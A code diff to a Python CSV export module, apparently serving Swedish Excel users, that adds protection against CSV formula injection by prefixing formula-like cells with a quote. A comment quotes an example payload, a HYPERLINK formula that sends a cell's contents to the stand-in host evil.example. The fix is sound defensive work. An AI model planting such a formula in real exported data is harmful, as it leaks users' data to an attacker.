@@ -8,6 +8,14 @@ from collections.abc import Iterable, Iterator
 from datetime import date, datetime
 
 BOM = "\ufeff"
+# A text cell starting with one of these is a formula to Excel and LibreOffice (OWASP, "CSV
+# injection"): `=HYPERLINK("http://evil.example/?leak="&A2,"Klicka")` in a walker's note.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def neutralise(text: str) -> str:
+    """A leading single quote makes the spreadsheet show the cell as text, formula and all."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
 
 
 def _excel_value(value) -> str:
@@ -20,7 +28,9 @@ def _excel_value(value) -> str:
     if isinstance(value, float):
         # Swedish Excel reads a decimal comma.
         return f"{value:.6f}".rstrip("0").rstrip(".").replace(".", ",")
-    return str(value)
+    if isinstance(value, int):  # a real number stays a number, minus sign and all
+        return str(value)
+    return neutralise(str(value))
 
 
 def excel_csv(header: list[str], rows: Iterable[Iterable]) -> Iterator[str]:
@@ -30,7 +40,7 @@ def excel_csv(header: list[str], rows: Iterable[Iterable]) -> Iterator[str]:
     """
     buffer = io.StringIO()
     writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
-    writer.writerow(header)
+    writer.writerow([neutralise(name) for name in header])
     yield BOM + buffer.getvalue()
     for row in rows:
         buffer.seek(0)
